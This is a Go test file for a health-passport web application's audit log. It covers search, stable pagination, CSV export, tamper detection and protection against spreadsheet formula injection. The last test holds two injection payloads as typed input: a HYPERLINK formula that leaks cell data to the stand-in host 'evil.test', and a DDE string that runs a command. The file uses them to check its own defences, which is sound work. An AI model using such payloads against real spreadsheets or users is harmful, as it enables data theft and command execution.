package handlers_test

import (
	"encoding/csv"
	"fmt"
	"html"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"healthpassport/models"
)

var auditRow = regexp.MustCompile(`<tr class="nhsuk-table__row"><td class="nhsuk-table__cell">`)

func TestAdministratorsSearchTheAuditLog(t *testing.T) {
	eachServer(t, func(t *testing.T, s *testServer) {
		nurse, admin := s.browser(t), s.browser(t)
		nurse.signIn("nurse")
		mustStatus(t, nurse.get("/patients/"+ameliaRef), http.StatusOK)
		mustStatus(t, nurse.get("/patients/"+oliverRef), http.StatusOK)
		mustStatus(t, nurse.get("/audit"), http.StatusForbidden)
		admin.signIn("admin")

		r := admin.get("/audit?nhs-number=" + url.QueryEscape("999 000 0018") + "&action=" + models.AuditPatientViewed)
		mustStatus(t, r, http.StatusOK)
		mustContain(t, r, "Record viewed", "Alex Morgan, nurse")
		if n := len(auditRow.FindAllString(r.body, -1)); n != 1 {
			t.Errorf("searching for Amelia's record views found %d entries; want 1", n)
		}
		if s.auditCount(models.AuditLogSearched, "") != 1 {
			t.Error("looking at the audit log was not audited")
		}

		r = admin.get("/audit?staff=commissioner")
		mustContain(t, r, "No entries match this search")

		r = admin.get("/audit?nhs-number=12345&action=made-up&from-day=2&from-month=3&from-year=2026&to-day=1&to-month=3&to-year=2026")
		mustStatus(t, r, http.StatusUnprocessableEntity)
		mustContain(t, r, "There is a problem", "NHS number must be 10 digits", "Choose what happened from the list",
			"Date to must be the same as or after date from", `value="12345"`)
		if s.auditCount(models.AuditLogSearched, "") != 2 {
			t.Error("a search that was refused was audited as a look at the log")
		}
	})
}

func TestTheAuditLogPagesStaySteadyWhileEntriesAreAdded(t *testing.T) {
	eachServer(t, func(t *testing.T, s *testServer) {
		amelia := s.patient(t, ameliaRef)
		nurse := s.user(t, "nurse")
		write := func(n int, detail string) {
			for i := range n {
				if err := s.store.Audit(t.Context(), models.Actor{UserID: nurse.ID, Role: nurse.Role}, models.AuditEntry{Action: models.AuditPatientUpdated,
					PatientID: &amelia.ID, TargetType: "patient", TargetID: ameliaRef, Detail: fmt.Sprintf("%s %d", detail, i)}); err != nil {
					t.Fatal(err)
				}
			}
		}
		write(70, "first")
		admin := s.browser(t)
		admin.signIn("admin")
		first := admin.get("/audit?action=" + models.AuditPatientUpdated)
		mustContain(t, first, "first 69", "first 20", "Older entries")
		if strings.Contains(first.body, "first 19<") {
			t.Error("the first page holds more than 50 entries")
		}
		write(5, "later")
		older := regexp.MustCompile(`href="(/audit\?[^"]+before=[^"]+)"`).FindStringSubmatch(first.body)
		if older == nil {
			t.Fatal("no link to older entries")
		}
		second := admin.get(html.UnescapeString(older[1]))
		mustContain(t, second, "first 19", "first 0")
		if strings.Contains(second.body, "later") || strings.Contains(second.body, "first 20<") || strings.Contains(second.body, "Older entries") {
			t.Error("the second page moved when entries were added")
		}
	})
}

func TestTheAuditLogExportsAsCSVAndTheExportIsAudited(t *testing.T) {
	eachServer(t, func(t *testing.T, s *testServer) {
		nurse, admin := s.browser(t), s.browser(t)
		nurse.signIn("nurse")
		nurse.get("/patients/" + ameliaRef)
		admin.signIn("admin")
		r := admin.get("/audit/export?staff=nurse&action=" + models.AuditPatientViewed)
		mustStatus(t, r, http.StatusOK)
		if !strings.HasPrefix(r.header.Get("Content-Type"), "text/csv") {
			t.Fatalf("the export is %s", r.header.Get("Content-Type"))
		}
		rows, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 2 || rows[1][2] != "Record viewed" || rows[1][3] != "Alex Morgan, nurse" {
			t.Errorf("the export holds %q", rows)
		}
		if s.auditCount(models.AuditLogExported, "") != 1 {
			t.Error("the export was not audited")
		}
		mustStatus(t, admin.get("/audit/export?organisation=999999"), http.StatusUnprocessableEntity)
	})
}

func TestCheckTheAuditLogFromTheAdminArea(t *testing.T) {
	eachServer(t, func(t *testing.T, s *testServer) {
		admin := s.browser(t)
		admin.signIn("admin")
		r := admin.post("/audit/check", url.Values{})
		if r.url != "/audit" {
			t.Fatalf("checking the log landed on %s (%d)", r.url, r.status)
		}
		mustContain(t, r, "The audit log has not been changed")
		// As the tables' owner can: lift the guard on the head first.
		lift := `DROP TRIGGER audit_chains_follow_entries`
		if s.db.Dialector.Name() == "postgres" {
			lift = `ALTER TABLE audit_chains DISABLE TRIGGER audit_chains_follow_entries`
		}
		for _, statement := range []string{lift, `UPDATE audit_chains SET last_hash = 'forged' WHERE id = 1`} {
			if err := s.db.Exec(statement).Error; err != nil {
				t.Fatal(err)
			}
		}
		mustContain(t, admin.post("/audit/check", url.Values{}), "The audit log has been changed: audit entry")
		if s.auditCount(models.AuditLogChecked, "") != 2 {
			t.Error("checking the log was not audited")
		}
	})
}

// A share's recipient and a connected system's name are typed by people
// and land in the audit log; opened in a spreadsheet, the export must
// show them as text, never run them as formulas.
func TestTheAuditLogExportRunsNoFormulaFromWhatPeopleTyped(t *testing.T) {
	eachServer(t, func(t *testing.T, s *testServer) {
		const recipient = `=HYPERLINK("http://evil.test/?leak="&A2,"Open")`
		const clientName = `@SUM(1+1)*cmd|' /C calc'!A0`
		carer, admin := s.browser(t), s.browser(t)
		carer.signIn("carer")
		mustStatus(t, carer.post("/passport/"+ameliaRef+"/shares", url.Values{"recipient": {recipient}, "days": {"30"}}), http.StatusOK)
		admin.signIn("admin")
		var riverside models.Organisation
		s.db.Where("ods_code = ?", "Y90001").Take(&riverside)
		keys, _ := publicKeySet(t)
		registered := admin.post("/clients/new", url.Values{"name": {clientName}, "organisation": {itoa(riverside.ID)},
			"scopes": {"system/Patient.rs"}, "keys": {keys}})
		mustStatus(t, registered, http.StatusOK)
		mustStatus(t, admin.post(registered.url+"/revoke", url.Values{}), http.StatusOK)

		r := admin.get("/audit/export")
		mustStatus(t, r, http.StatusOK)
		rows, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		var formulas []string
		seen := map[string]int{}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					formulas = append(formulas, cell)
				}
				for _, typed := range []string{recipient, clientName} {
					if strings.Contains(cell, typed) {
						seen[typed]++
					}
				}
			}
		}
		if len(formulas) != 0 {
			t.Errorf("%d cells of the export start as a formula: %q", len(formulas), formulas)
		}
		if seen[recipient] == 0 || seen[clientName] == 0 {
			t.Errorf("the export no longer shows what was typed: %v", seen)
		}
	})
}
